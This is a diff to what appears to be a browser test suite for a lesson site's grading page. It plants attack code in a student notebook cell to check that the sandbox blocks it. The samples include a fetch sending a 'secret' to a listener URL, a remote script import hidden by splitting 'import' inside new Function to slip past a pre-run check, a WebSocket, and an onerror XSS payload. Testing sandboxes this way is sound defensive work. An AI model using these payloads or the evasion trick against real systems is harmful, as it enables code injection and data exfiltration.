@@ -126,7 +126,8 @@ function classFiles(text: string) {
   inLesson(network).cells.find((c) => c.key === 'bn-backward')!.code = [
     `const L = ${JSON.stringify(listenerUrl)};`,
     `try { fetch(L + '/fetch?secret=1').catch(() => {}); } catch {}`,
-    `try { import(L + '/import.js').catch(() => {}); } catch {}`,
+    // A plain import( is refused before the code runs; through Function it reaches the browser's policy.
+    `try { new Function('u', 'return imp' + 'ort(u)')(L + '/import.js').catch(() => {}); } catch {}`,
     `try { new WebSocket(L.replace('http', 'ws') + '/ws'); } catch {}`,
     `throw new Error('<img src=x onerror="window.__pwned=3">');`,
   ].join('\n');
@@ -195,7 +196,7 @@ test('the grading page re-checks every answer and code cell, refuses bad files w
   problems,
 }) => {
   // The network attempts are refused by the sandbox's policy, and the browser logs them.
-  problems.allow(/Content Security Policy|Refused to|Failed to load resource|net::ERR|WebSocket/);
+  problems.allow(/Content Security Policy|Refused to|Failed to load resource|net::ERR|WebSocket|\(csp\)$/);
   await page.route(`${listenerUrl}/**`, (route) => route.continue());
   const { name, text } = await studentWork(page);
   expect(name).toMatch(/^normlab-Ada-Lovelace-/);
@@ -295,7 +296,7 @@ test('the answer key the grading page uses holds what each lesson’s exercises 
   for (const l of key.lessons) {
     const html = await (await request.get(new URL(`lessons/${l.id}/`, baseURL).href)).text();
     const attr = (tag: string, name: string) => new RegExp(`\\s${name}="([^"]*)"`).exec(tag)?.[1] ?? null;
-    const onPage = [...html.matchAll(/<nn-exercise\b[^>]*>/g)]
+    const onPage = [...html.matchAll(/<nn-exercise\s[^>]*>/g)]
       .map((m) => m[0])
       .filter((tag) => attr(tag, 'data-kind') !== 'open')
       .map((tag) => ({
